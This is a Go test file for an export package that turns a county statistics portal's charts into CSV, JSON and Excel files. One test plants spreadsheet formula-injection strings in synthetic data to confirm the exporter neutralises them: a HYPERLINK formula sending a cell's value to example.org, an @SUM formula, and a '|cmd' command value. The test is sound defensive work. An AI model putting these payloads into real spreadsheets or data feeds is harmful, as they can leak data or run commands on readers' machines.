package opendata_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"portal/charts"
	"portal/internal/figures"
	"portal/internal/lexicon"
	"portal/internal/opendata"
	"portal/internal/testkit/sample"
)

var update = flag.Bool("update", false, "rewrite the goldens")

func load(t testing.TB, root fs.FS) (*figures.Dataset, []charts.Chart) {
	t.Helper()
	ds, problems, err := figures.Load(root)
	if err != nil || len(problems) > 0 {
		t.Fatal(problems, err)
	}
	built, err := charts.Build(ds, sample.Words(t, lexicon.Chinese), address)
	if err != nil {
		t.Fatal(err)
	}
	return ds, built
}

func address(scope, id string, p figures.Period) string {
	return fmt.Sprintf("https://example.org/charts/%s/%s/%s/", scope, id, p)
}

func addressOf(c charts.Chart) string { return address(c.Scope, c.ID, c.Period) }

func project() fs.FS { return os.DirFS(sample.Root()) }

func chart(t testing.TB, built []charts.Chart, scope, id, period string) charts.Chart {
	t.Helper()
	for _, c := range built {
		if c.Scope == scope && c.ID == id && c.Period.String() == period {
			return c
		}
	}
	t.Fatalf("no chart %s of %s at %s", id, scope, period)
	return charts.Chart{}
}

// files are the three files of a chart.
type files struct{ csv, json, xlsx []byte }

func filesOf(t testing.TB, ds *figures.Dataset, c charts.Chart) (f files) {
	t.Helper()
	var err error
	if f.csv, err = opendata.CSV(c); err != nil {
		t.Fatal(err)
	}
	if f.json, err = opendata.JSON(ds, sample.Words(t, lexicon.Chinese), c, addressOf(c)); err != nil {
		t.Fatal(err)
	}
	if f.xlsx, err = opendata.XLSX(ds, sample.Words(t, lexicon.Chinese), c, addressOf(c)); err != nil {
		t.Fatal(err)
	}
	return f
}

func formOf(t testing.TB, ds *figures.Dataset, r *figures.Report) []byte {
	t.Helper()
	src, err := opendata.FormCSV(ds, sample.Words(t, lexicon.Chinese), r)
	if err != nil {
		t.Fatal(err)
	}
	return src
}

// records parses a CSV file and returns its records by column name.
func records(t testing.TB, file []byte) []map[string]string {
	t.Helper()
	all, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(file, []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, line := range all[1:] {
		r := map[string]string{}
		for i, field := range line {
			r[all[0][i]] = field
		}
		out = append(out, r)
	}
	return out
}

func workbook(t testing.TB, file []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// The files of one chart in readable form: the CSV with plain line ends, the JSON indented, and the
// workbook as displayed.
func TestGoldens(t *testing.T) {
	ds, built := load(t, project())
	f := filesOf(t, ds, chart(t, built, "luhe", "fund-progress", "2020-07"))
	plain := func(file []byte) string {
		return strings.ReplaceAll(strings.TrimPrefix(string(file), "\xEF\xBB\xBF"), "\r\n", "\n")
	}
	var indented bytes.Buffer
	if err := json.Indent(&indented, f.json, "", "  "); err != nil {
		t.Fatal(err)
	}
	for name, got := range map[string]string{
		"form-2020-07.csv":            plain(formOf(t, ds, &ds.Reports[0])),
		"luhe-fund-progress.csv":      plain(f.csv),
		"luhe-fund-progress.json":     indented.String(),
		"luhe-fund-progress.xlsx.txt": inWords(t, workbook(t, f.xlsx)),
	} {
		name = filepath.Join("testdata", name)
		if *update {
			if err := os.WriteFile(name, []byte(got), 0o666); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(string(want), got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

func inWords(t *testing.T, f *excelize.File) string {
	var b strings.Builder
	for _, name := range f.GetSheetList() {
		fmt.Fprintf(&b, "-- %s --\n", name)
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			fmt.Fprintf(&b, "%d|%s\n", i+1, strings.Join(row, "|"))
		}
	}
	return b.String()
}

// headRows is the number of rows above the figures of a sheet.
const headRows = 5

// The three files have every figure of the chart's tables.
func TestFilesAgree(t *testing.T) {
	roots := map[string]fs.FS{
		"project":        project(),
		"gaps":           sample.Portal(sample.Size{Counties: 3, Months: 8, Gap: 7}),
		"forty counties": sample.Portal(sample.Size{Counties: 40, Months: 2, LongNames: true}),
		"all zero":       sample.Portal(sample.Size{Counties: 2, Months: 3, Nothing: true}),
	}
	for name, root := range roots {
		t.Run(name, func(t *testing.T) {
			ds, built := load(t, root)
			for i, c := range built {
				// The other counties and months have the same charts.
				if c.Scope != figures.All && len(built) > 100 && i%23 != 0 {
					continue
				}
				t.Run(fmt.Sprintf("%s/%s/%s", c.Scope, c.ID, c.Period), func(t *testing.T) {
					f := filesOf(t, ds, c)
					csvAgrees(t, c, f.csv)
					jsonAgrees(t, c, f.json)
					xlsxAgrees(t, c, f.xlsx)
				})
			}
		})
	}
}

// figuresOf counts the cells of a chart's columns of numbers.
func figuresOf(c charts.Chart) int {
	n := 0
	for _, table := range c.Tables {
		for _, column := range table.Columns {
			if column.Number {
				n += len(table.Rows)
			}
		}
	}
	return n
}

func statusOf(cell charts.Cell) string {
	if cell.Missing == "" {
		return "reported"
	}
	return string(cell.Missing)
}

func csvAgrees(t *testing.T, c charts.Chart, file []byte) {
	t.Helper()
	lines := records(t, file)
	if len(lines) != figuresOf(c) {
		t.Fatalf("the CSV has %d lines, the tables %d figures", len(lines), figuresOf(c))
	}
	seen := map[string]bool{}
	n := 0
	for _, table := range c.Tables {
		for _, row := range table.Rows {
			for i, column := range table.Columns {
				if !column.Number {
					continue
				}
				cell, line := row[i], lines[n]
				n++
				unit := column.Unit
				if unit == "" {
					unit = cell.Unit
				}
				want := map[string]string{
					"chart": c.ID, "scope": c.Scope, "place": c.Place, "period": c.Period.String(), "table": table.ID,
					"row": line["row"], "row_name": line["row_name"], "column": column.ID, "column_name": column.Name,
					"unit": unit, "value": cell.Value, "status": statusOf(cell), "text": cell.Text,
				}
				if diff := cmp.Diff(want, line); diff != "" {
					t.Errorf("CSV (-table +file):\n%s", diff)
				}
				if (line["value"] == "") != (line["status"] != "reported") {
					t.Errorf("CSV: value %q has status %q", line["value"], line["status"])
				}
				for _, named := range row {
					if (named.ID != "" && !strings.Contains(line["row"], named.ID)) ||
						(named.ISO != "" && !strings.Contains(line["row"], named.ISO)) {
						t.Errorf("CSV: row %q does not name %+v", line["row"], named)
					}
				}
				key := strings.Join([]string{line["table"], line["row"], line["column"]}, " ")
				if seen[key] {
					t.Errorf("CSV: two lines are of %s", key)
				}
				seen[key] = true
			}
		}
	}
}

// jsonFile is the documented structure of the JSON file.
type jsonFile struct {
	Chart, Scope, Place, Period, Title, Sentence, Unit, Address string

	Tables []struct {
		ID, Caption string
		Columns     []struct{ ID, Name, Unit, Type string }
		Rows        [][]struct {
			Text, Unit, ID, Date, Status string
			Value                        json.Number
		}
	}
	Notes       []string
	Sources     []struct{ ID, Title, Issuer, Number, Date string }
	Corrections []struct {
		Date, County, Indicator, Period, Unit, Reason, Source string
		CountyName                                            string `json:"county_name"`
		IndicatorName                                         string `json:"indicator_name"`
		Old, New                                              struct {
			Value  json.Number
			Status string
		}
	}
}

func readJSON(t testing.TB, file []byte) (f jsonFile) {
	t.Helper()
	decoder := json.NewDecoder(bytes.NewReader(file))
	decoder.DisallowUnknownFields()
	if err := decoder.Decode(&f); err != nil {
		t.Fatal(err)
	}
	return f
}

func jsonAgrees(t *testing.T, c charts.Chart, file []byte) {
	t.Helper()
	f := readJSON(t, file)
	if f.Chart != c.ID || f.Scope != c.Scope || f.Place != c.Place || f.Period != c.Period.String() ||
		f.Title != c.Title ||
		f.Sentence != c.Sentence || f.Unit != c.Unit || f.Address != addressOf(c) || len(f.Sources) < len(c.Sources) {
		t.Errorf("JSON: %+v", f)
	}
	if diff := cmp.Diff(c.Notes, f.Notes); diff != "" {
		t.Errorf("JSON: notes (-chart +file):\n%s", diff)
	}
	for n, table := range c.Tables {
		got := f.Tables[n]
		if got.ID != table.ID || got.Caption != table.Caption || len(got.Columns) != len(table.Columns) ||
			len(got.Rows) != len(table.Rows) {
			t.Fatalf("JSON: table %s is %s with %d columns and %d rows", table.ID, got.ID, len(got.Columns),
				len(got.Rows))
		}
		for i, column := range table.Columns {
			if h := got.Columns[i]; h.ID != column.ID || h.Name != column.Name || h.Unit != column.Unit ||
				(h.Type == "number") != column.Number {
				t.Errorf("JSON: column %+v is %+v", column, h)
			}
		}
		for r, row := range table.Rows {
			for i, cell := range row {
				status := ""
				if table.Columns[i].Number {
					status = statusOf(cell)
				}
				g := got.Rows[r][i]
				if g.Text != cell.Text || g.Value.String() != cell.Value || g.Unit != cell.Unit || g.ID != cell.ID ||
					g.Date != cell.ISO || g.Status != status {
					t.Errorf("JSON: cell %+v is %+v", cell, g)
				}
			}
		}
	}
}

func xlsxAgrees(t *testing.T, c charts.Chart, file []byte) {
	t.Helper()
	f := workbook(t, file)
	sheets := f.GetSheetList()
	if len(sheets) != len(c.Tables) {
		t.Fatalf("the workbook has %d sheets, the chart %d tables", len(sheets), len(c.Tables))
	}
	for n, table := range c.Tables {
		name := sheets[n]
		shown, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		raw, err := f.GetRows(name, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if shown[0][0] != c.Title || shown[1][0] != c.Sentence ||
			!strings.Contains(shown[2][0], sample.Words(t, lexicon.Chinese).Period(c.Period)) {
			t.Errorf("workbook: head %q", shown[:3])
		}
		for i, column := range table.Columns {
			if shown[3][i] != column.Name || column.Unit != "" && shown[4][i] != column.Unit {
				t.Errorf("workbook: column %+v is %q in %q", column, shown[3][i], shown[4][i])
			}
		}
		for r, row := range table.Rows {
			for i, cell := range row {
				at, _ := excelize.CoordinatesToCellName(i+1, headRows+r+1)
				kind, err := f.GetCellType(name, at)
				if err != nil {
					t.Fatal(err)
				}
				if formula, err := f.GetCellFormula(name, at); err != nil || formula != "" {
					t.Errorf("workbook: %s %s has the formula %q, %v", name, at, formula, err)
				}
				day, _ := figures.ParseDate(cell.ISO)
				number, text := kind == excelize.CellTypeUnset || kind == excelize.CellTypeNumber, cell.Text
				if day.Exact() {
					text = cell.ISO
				}
				if number != (cell.Value != "" || day.Exact()) || shown[headRows+r][i] != text {
					t.Errorf("workbook: %s %s shows %q of type %v for %+v", name, at, shown[headRows+r][i], kind, cell)
				}
				if cell.Value != "" && raw[headRows+r][i] != cell.Value {
					t.Errorf("workbook: %s %s holds %q for %s", name, at, raw[headRows+r][i], cell.Value)
				}
			}
		}
	}
}

// A blank cell gives a line without a value, not with 0.
func TestMissing(t *testing.T) {
	ds, built := load(t, project())
	f := filesOf(t, ds, chart(t, built, "all", "fund-progress", "2020-07"))
	found := false
	for _, line := range records(t, f.csv) {
		if line["row"] == "lufeng" && line["column"] == "fund-progress" {
			found = true
			if line["value"] != "" || line["status"] != "not_reported" || line["text"] != "未填报" ||
				line["row_name"] != "陆丰市" {
				t.Errorf("the progress of lufeng is %v", line)
			}
		}
	}
	if !found {
		t.Error("the progress of lufeng has no line")
	}
	if !strings.Contains(inWords(t, workbook(t, f.xlsx)), "|陆丰市|未公布|0|0|未填报\n") {
		t.Error("the workbook does not say that lufeng did not report")
	}
}

// The CSV begins with a byte order mark, because spreadsheets need it to read hanzi, and its lines
// end as RFC 4180 requires.
func TestCSVBytes(t *testing.T) {
	ds, built := load(t, project())
	check := func(file []byte, head string) {
		t.Helper()
		text, ok := strings.CutPrefix(string(file), "\xEF\xBB\xBF"+head)
		if !ok || !strings.HasSuffix(text, "\r\n") || strings.Count(text, "\n") != strings.Count(text, "\r\n") {
			t.Errorf("%q", file)
		}
	}
	for _, c := range built {
		file, err := opendata.CSV(c)
		if err != nil {
			t.Fatal(err)
		}
		check(file, "chart,scope,place,period,")
	}
	check(formOf(t, ds, &ds.Reports[0]), "scope,place,period,")
}

// parts returns the parts of a workbook.
func parts(t *testing.T, file []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		if f.ModifiedDate != 0 || f.ModifiedTime != 0 {
			t.Errorf("%s was modified at %v", f.Name, f.Modified)
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		src, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(src)
	}
	return out
}

// An amount has the reported digits in the workbook, and the metadata has no invented author or
// time.
func TestXLSXParts(t *testing.T) {
	ds, built := load(t, project())
	p := parts(t, filesOf(t, ds, chart(t, built, "luhe", "contract-awards", "2020-07")).xlsx)
	for _, want := range []string{"<v>2064956.27</v>", "<v>936000.00</v>", "<v>43774</v>", `state="frozen"`,
		"<hyperlink ", `<dimension ref="A1:E14">`} {
		if !strings.Contains(p["xl/worksheets/sheet1.xml"], want) {
			t.Errorf("sheet1.xml has no %s", want)
		}
	}
	for name, src := range p {
		if strings.Contains(src, "<f>") || strings.Contains(src, "<f ") {
			t.Errorf("%s has a formula", name)
		}
	}
	if core := p["docProps/core.xml"]; strings.Contains(core, "xuri") || strings.Contains(core, "Z<") ||
		!strings.Contains(core, "5份中标合同") {
		t.Errorf("core.xml is %s", core)
	}
}

// A spreadsheet stores fifteen digits, so a longer number is a text.
func TestXLSXLongNumbers(t *testing.T) {
	ds, built := load(t, project())
	c := chart(t, built, "luhe", "contract-awards", "2020-07")
	c.Tables = []charts.Table{{ID: "contracts", Caption: "长数",
		Columns: []charts.Column{{ID: "contract", Name: "项目"}, {ID: "amount", Name: "金额", Number: true}}}}
	for _, v := range []string{"123456789012345.67", "1234567890123.45", "-0.5", "1000000000000000000"} {
		c.Tables[0].Rows = append(c.Tables[0].Rows, []charts.Cell{{Text: "第" + v + "项"},
			{Text: figures.Grouped(v), Value: v}})
	}
	f := filesOf(t, ds, c)
	sheet := parts(t, f.xlsx)["xl/worksheets/sheet1.xml"]
	for value, isNumber := range map[string]bool{"123456789012345.67": false, "1234567890123.45": true, "-0.5": true,
		"1000000000000000000": true} {
		if strings.Contains(sheet, "<v>"+value+"</v>") != isNumber {
			t.Errorf("%s is a number: %t", value, !isNumber)
		}
	}
	if !strings.Contains(inWords(t, workbook(t, f.xlsx)), "|123,456,789,012,345.67\n") {
		t.Error("the long number is not a text")
	}
	csvAgrees(t, c, f.csv)
	jsonAgrees(t, c, f.json)
}

// No text from the data becomes a formula in a spreadsheet.
func TestNoFormula(t *testing.T) {
	const (
		county   = `=HYPERLINK("http://example.org/?"&A1,"看")`
		contract = "@SUM(1+1)"
		winner   = "-2+3|cmd"
		note     = "＝1+1"
		title    = "+合成数据，仅供测试"
	)
	root := sample.Portal(sample.Size{Counties: 2, Months: 2})
	for name, edits := range map[string][]string{
		"data/jurisdictions.yaml": {"name: 示例1县", "name: '" + county + "'"},
		"data/projects/c0.yaml": {"title: 合成合同", "title: '" + contract + "'", "winner: 合成公司",
			"winner: '" + winner + "'"},
		"data/sources.yaml": {"issuer: 示例市商务局", "issuer: '" + note + "'", "title: 合成数据，仅供测试",
			"title: '" + title + "'"},
	} {
		root[name] = &fstest.MapFile{Data: []byte(strings.NewReplacer(edits...).Replace(string(root[name].Data)))}
	}
	ds, built := load(t, root)
	quoted := map[string]bool{}
	check := func(file []byte) {
		for _, line := range records(t, file) {
			for field, text := range line {
				if field != "value" && text != "" && strings.ContainsAny(string([]rune(text)[:1]), "=+-@\t\r＝＋－＠") {
					t.Errorf("%s is %q", field, text)
				}
				quoted[text] = true
			}
		}
	}
	check(formOf(t, ds, &ds.Reports[0]))
	for _, c := range built {
		f := filesOf(t, ds, c)
		check(f.csv)
		for name, src := range parts(t, f.xlsx) {
			if strings.Contains(src, "<f>") || strings.Contains(src, "<f ") {
				t.Errorf("%s of %s: %s has a formula", c.ID, c.Scope, name)
			}
		}
		xlsxAgrees(t, c, f.xlsx)
		jsonAgrees(t, c, f.json)
	}
	for _, want := range []string{"'" + county, "'" + title, "'" + contract + "　" + winner + "　2020年12月1日"} {
		if !quoted[want] {
			t.Errorf("no field is %q", want)
		}
	}
}

// A corrected figure is marked in every file that can mark it, with the document that gives the
// reason.
func TestCorrections(t *testing.T) {
	root := sample.Portal(sample.Size{Counties: 2, Months: 2})
	report := string(root["data/reports/2021-01.yaml"].Data) + `corrections:
  - county: c0
    indicator: stations
    old: {missing: not_reported}
    new: 1
    reason: 补报。
    source: letter
    date: 2021-02-03
  - county: all
    indicator: stations
    old: 1
    new: 2
    reason: 补报。
    source: letter
    date: 2021-02-03
`
	root["data/reports/2021-01.yaml"] = &fstest.MapFile{Data: []byte(report)}
	sources := string(root["data/sources.yaml"].Data) + "  - id: letter\n    title: 更正函\n    number: 示函〔2021〕1号\n    date: 2021-02\n"
	root["data/sources.yaml"] = &fstest.MapFile{Data: []byte(sources)}
	ds, built := load(t, root)
	f := filesOf(t, ds, chart(t, built, "all", "station-coverage", "2021-01"))
	got := readJSON(t, f.json)
	if len(got.Corrections) != 2 {
		t.Fatalf("the JSON has %d corrections", len(got.Corrections))
	}
	one, all := got.Corrections[0], got.Corrections[1]
	if one.Date != "2021-02-03" || one.County != "c0" || one.CountyName != "示例1县" || one.Indicator != "stations" ||
		one.IndicatorName != "累计建设村级电商服务站" ||
		one.Period != "2021-01" || one.Unit != "个" || one.Reason != "补报。" || one.Source != "letter" {
		t.Errorf("the county's correction is %+v", one)
	}
	if one.Old.Status != "not_reported" || one.Old.Value != "" || one.New.Status != "reported" || one.New.Value != "1" {
		t.Errorf("the county's correction is from %+v to %+v", one.Old, one.New)
	}
	if all.County != "all" || all.CountyName != "两县合计" || all.Old.Value != "1" {
		t.Errorf("the total's correction is %+v", all)
	}
	if last := got.Sources[len(got.Sources)-1]; last.ID != "letter" || last.Title != "更正函" ||
		last.Number != "示函〔2021〕1号" || last.Date != "2021-02" {
		t.Errorf("the last source is %+v", last)
	}
	words := inWords(t, workbook(t, f.xlsx))
	for _, want := range []string{
		"更正：2021年2月3日，示例1县2021年1月累计建设村级电商服务站由未填报改为1个。原因：补报。来源：《更正函》",
		"更正：2021年2月3日，两县合计2021年1月累计建设村级电商服务站由1个改为2个。原因：补报。来源：《更正函》",
		"来源：《更正函》，示函〔2021〕1号，2021年2月",
	} {
		if !strings.Contains(words, want) {
			t.Errorf("the workbook does not say %q:\n%s", want, words)
		}
	}
}

// Another time zone gives the same bytes.
func TestSameBytes(t *testing.T) {
	here := time.Local
	defer func() { time.Local = here }()
	root := sample.Portal(sample.Size{Counties: 2, Months: 2})
	var first []files
	for _, zone := range []*time.Location{time.UTC, time.FixedZone("far", 14*60*60),
		time.FixedZone("west", -11*60*60)} {
		time.Local = zone
		ds, built := load(t, root)
		var all []files
		for _, c := range built {
			all = append(all, filesOf(t, ds, c))
		}
		if first == nil {
			first = all
		}
		for i := range all {
			if !bytes.Equal(all[i].csv, first[i].csv) || !bytes.Equal(all[i].json, first[i].json) ||
				!bytes.Equal(all[i].xlsx, first[i].xlsx) {
				t.Errorf("%s: files of %s of %s differ", zone, built[i].ID, built[i].Scope)
			}
		}
	}
}

// Sheets are named after captions, as far as spreadsheets allow.
func TestSheetNames(t *testing.T) {
	ds, built := load(t, project())
	c := chart(t, built, "luhe", "contract-awards", "2020-07")
	table := c.Tables[0]
	c.Tables = nil
	long := strings.Repeat("长", 40)
	for _, caption := range []string{"a/b:c?", "A b c", "'", long, long + "x", strings.Repeat("𠮷", 20)} {
		table.Caption = caption
		c.Tables = append(c.Tables, table)
	}
	file, err := opendata.XLSX(ds, sample.Words(t, lexicon.Chinese), c, "/charts/")
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"a b c", "A b c（2）", "contracts", long[:31*3], long[:28*3] + "（2）", strings.Repeat("𠮷", 15)}
	if diff := cmp.Diff(want, workbook(t, file).GetSheetList()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if sheet := parts(t, file)["xl/worksheets/sheet1.xml"]; strings.Contains(sheet, "<hyperlink ") {
		t.Error("an address without a host is a link")
	}
}

// A text that a spreadsheet would truncate is an error, and so is a chart without known documents.
func TestRefused(t *testing.T) {
	ds, built := load(t, project())
	c := chart(t, built, "luhe", "contract-awards", "2020-07")
	c.Sentence = strings.Repeat("长", 32768)
	if _, err := opendata.XLSX(ds, sample.Words(t, lexicon.Chinese), c, ""); err == nil ||
		!strings.Contains(err.Error(), "32768 characters; a spreadsheet holds at most 32767") {
		t.Errorf("a long text gives %v", err)
	}
	c = chart(t, built, "luhe", "contract-awards", "2020-07")
	c.Sources = []string{"nowhere"}
	if _, err := opendata.XLSX(ds, sample.Words(t, lexicon.Chinese), c, ""); err == nil ||
		!strings.Contains(err.Error(), `source "nowhere"`) {
		t.Errorf("an unknown source gives %v", err)
	}
	if _, err := opendata.JSON(ds, sample.Words(t, lexicon.Chinese), c, ""); err == nil ||
		!strings.Contains(err.Error(), `source "nowhere"`) {
		t.Errorf("an unknown source gives %v", err)
	}
}

func large(b *testing.B) (*figures.Dataset, charts.Chart) {
	ds, built := load(b, sample.Portal(sample.Size{Counties: 5, Months: 60}))
	return ds, chart(b, built, "all", "fund-progress", "2025-12")
}

func BenchmarkCSV(b *testing.B) {
	_, c := large(b)
	for b.Loop() {
		if _, err := opendata.CSV(c); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkJSON(b *testing.B) {
	ds, c := large(b)
	words := sample.Words(b, lexicon.Chinese)
	for b.Loop() {
		if _, err := opendata.JSON(ds, words, c, ""); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkXLSX(b *testing.B) {
	ds, c := large(b)
	words := sample.Words(b, lexicon.Chinese)
	for b.Loop() {
		if _, err := opendata.XLSX(ds, words, c, ""); err != nil {
			b.Fatal(err)
		}
	}
}

// A workbook of several charts has the sheets of each chart's own workbook, with unique names.
func TestWorkbook(t *testing.T) {
	ds, built := load(t, project())
	var parts []opendata.Part
	var want [][][]string
	for _, c := range built {
		if c.Scope != figures.All {
			continue
		}
		parts = append(parts, opendata.Part{Chart: c, Address: addressOf(c)})
		want = append(want, sheetsOf(t, filesOf(t, ds, c).xlsx)...)
	}
	src, err := opendata.Workbook(ds, sample.Words(t, lexicon.Chinese), "all", parts...)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, sheetsOf(t, src)); diff != "" {
		t.Errorf("(-each +all):\n%s", diff)
	}
	if _, err := opendata.Workbook(ds, sample.Words(t, lexicon.Chinese), "none"); err == nil ||
		err.Error() != "no table" {
		t.Errorf("a workbook of nothing: %v", err)
	}
}

// sheetsOf returns the displayed cells of each sheet.
func sheetsOf(t *testing.T, src []byte) [][][]string {
	t.Helper()
	f := workbook(t, src)
	var out [][][]string
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, rows)
	}
	return out
}

// Reading returns every figure of every chart as written.
func TestReadCSV(t *testing.T) {
	_, built := load(t, project())
	for _, c := range built {
		src, err := opendata.CSV(c)
		if err != nil {
			t.Fatal(err)
		}
		lines, err := opendata.ReadCSV(src)
		if err != nil {
			t.Fatalf("%s of %s: %v", c.ID, c.Scope, err)
		}
		at := 0
		for _, table := range c.Tables {
			for _, row := range table.Rows {
				for i, column := range table.Columns {
					if !column.Number {
						continue
					}
					l := lines[at]
					at++
					if l.Chart != c.ID || l.Scope != c.Scope || l.Place != c.Place || l.Period != c.Period ||
						l.Table != table.ID ||
						l.Column != column.ID || l.ColumnName != column.Name || l.Value != row[i].Value ||
						l.Text != row[i].Text ||
						(l.Status == opendata.Reported) != (row[i].Missing == "") ||
						!strings.Contains(l.RowName, row[0].Text) {
						t.Errorf("%s of %s: %+v is read from the cell %+v", c.ID, c.Scope, l, row[i])
					}
				}
			}
		}
		if at != len(lines) {
			t.Errorf("%s of %s: %d figures are read, it has %d", c.ID, c.Scope, len(lines), at)
		}
	}
}

// The CSV of a month has each figure of every county and of the total once, with its document. A
// county without a column has the reason instead.
func TestFormCSV(t *testing.T) {
	root := sample.Portal(sample.Size{Counties: 2, Months: 7, Gap: 7})
	const name, corrected = "data/reports/2021-01.yaml", "corrections:\n" +
		"  - {county: c1, indicator: income-gain, old: 1, new: 0, reason: 合成, source: second, date: 2021-03-01}\n" +
		"  - {county: all, indicator: income-gain, old: 1, new: 0, reason: 合成, source: second, date: 2021-03-01}\n"
	root[name] = &fstest.MapFile{Data: append(root[name].Data, corrected...)}
	root["data/sources.yaml"] = &fstest.MapFile{Data: append(root["data/sources.yaml"].Data,
		"  - id: second\n    title: 合成更正\n    date: 2021-03-01\n"...)}
	ds, _ := load(t, root)
	for i := range ds.Reports {
		r := &ds.Reports[i]
		file := formOf(t, ds, r)
		lines, err := opendata.ReadFormCSV(file)
		if err != nil {
			t.Fatal(err)
		}
		if n := 3 * len(ds.Indicators); len(lines) != n {
			t.Errorf("%s has %d figures, want %d", r.Period.V, len(lines), n)
		}
		for n, line := range records(t, file) {
			l, v, want := lines[n], r.Value(line["scope"], line["indicator"]), "form"
			if line["scope"] != "c0" && line["indicator"] == "income-gain" && i == 0 {
				want = "second"
			}
			value, status := "", string(v.Missing)
			if v.Known() {
				value, status = v.Number.String(), opendata.Reported
			}
			if l.Row != line["scope"] || l.Column != line["indicator"] || l.Value != value || l.Status != status ||
				line["source"] != want {
				t.Errorf("%s: %v is read as %+v; it is %q, %s, from %s", r.Period.V, line, l, value, status, want)
			}
		}
	}
	if last := &ds.Reports[6]; len(last.Absent) != 1 || last.Value("c0", "stations").Missing != figures.NotReported {
		t.Error("no county is absent")
	}
}

func TestReadCSVRefuses(t *testing.T) {
	const (
		head = "chart,scope,place,period,table,row,row_name,column,column_name,unit,value,status,text\n"
		line = "targets,all,合成县,2021-01,targets,a,甲,number,目标数,个,1,reported,1\n"
	)
	for _, c := range []struct{ src, want string }{
		{"", "the file is empty"},
		{strings.Replace(head, ",status", "", 1), `there is no column "status"`},
		{head + "a,b\n", "wrong number of fields"},
		{head + "\"a", `extraneous or missing "`},
		{head + strings.Replace(line, "2021-01", "2021-13", 1), `line 2: the period is "2021-13"; it is a month`},
		{head + strings.Replace(line, "reported", "", 1), "line 2: the status is empty"},
		{head + strings.Replace(line, ",1,reported", ",NaN,reported", 1), `line 2: the value is "NaN"`},
		{head + strings.Replace(line, ",1,reported", ",,reported", 1), `line 2: the value is ""`},
		{head + strings.Replace(line, ",reported", ",withheld", 1), `a missing figure has no value`},
		{head + line + line, "line 3: the figure \"number\" of \"a\" stands twice; first at line 2"},
	} {
		if _, err := opendata.ReadCSV([]byte(c.src)); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: the error is %v; it names %q", c.src, err, c.want)
		}
	}
	more := strings.Replace(head, "chart,", "note,chart,", 1) + "later," + strings.Replace(line, "甲", "'=甲", 1)
	lines, err := opendata.ReadCSV([]byte(more))
	if err != nil || len(lines) != 1 || lines[0].Value != "1" || lines[0].RowName != "=甲" {
		t.Errorf("of a later version is read %+v, %v", lines, err)
	}
}

// Reading returns lines or an error, and writing the lines and reading them again gives the same
// lines.
func FuzzReadCSV(f *testing.F) {
	head := "\xEF\xBB\xBFchart,scope,place,period,table,row,row_name,column,column_name,unit,value,status,text\r\n"
	f.Add([]byte(head + "a,all,合计,2020-07,t,r,行,c,列,个,1,reported,1\r\n"))
	f.Add([]byte(head + "a,all,合计,2020-07,t,r,'=行,c,列,个,,not_reported,未填报\r\n"))
	f.Add([]byte(head))
	f.Fuzz(func(t *testing.T, src []byte) {
		lines, err := opendata.ReadCSV(src)
		if err != nil {
			return
		}
		for _, l := range lines {
			if l.Status == "" || (l.Status == opendata.Reported) != (l.Value != "") {
				t.Fatalf("%+v", l)
			}
		}
	})
}
